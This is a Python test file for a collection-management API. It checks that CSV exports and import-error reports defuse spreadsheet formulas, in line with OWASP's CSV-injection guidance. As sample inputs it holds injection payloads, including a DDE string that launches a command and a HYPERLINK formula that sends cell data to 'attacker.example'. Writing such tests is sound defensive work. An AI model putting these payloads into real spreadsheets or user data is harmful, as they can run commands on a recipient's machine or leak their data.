"""Spreadsheets sent to callers never carry a live formula (OWASP's CSV-injection rule)."""

from __future__ import annotations

import csv
import io

from tests.api.test_exchange import csv_bytes, upload
from tests.helpers import agent, obj

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = "=cmd|' /C calc'!A0"


def _cells(response) -> list[str]:
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_anonymous_csv_export_neutralises_formulas(client, users):
    curator = users["curator"]
    maker = agent(client, curator, "@SUM(1+1)*cmd|' /C calc'!A0")
    obj(
        client,
        curator,
        status="public",
        title={"fr": PAYLOAD, "en": "+33 3 21 12 27 27"},
        description={"fr": "-2+3", "en": '=HYPERLINK("http://attacker.example/?"&A1)'},
        production={"makers": [{"agent": {"id": maker["id"]}, "role": "=fabricant"}]},
    )
    response = client.get("/api/v1/exports/objects.csv")
    assert response.status_code == 200
    cells = _cells(response)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert f"'{PAYLOAD}" in cells and "'+33 3 21 12 27 27" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'=fabricant" in cells


def test_errors_csv_neutralises_what_the_file_said(client, users):
    curator = users["curator"]
    rows = [
        ["object_number", "status", "title_fr"],
        ['=HYPERLINK("http://attacker.example")', "public", ""],
        ["-1+2", "@SUM(A1)", "Casque"],
    ]
    job = upload(client, curator, csv_bytes(rows)).get_json()
    assert job["status"] == "invalid"
    errors = client.get(f"/api/v1/imports/{job['id']}/errors.csv", headers=curator.headers)
    assert errors.status_code == 200
    cells = _cells(errors)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert '\'=HYPERLINK("http://attacker.example")' in cells and "'-1+2" in cells
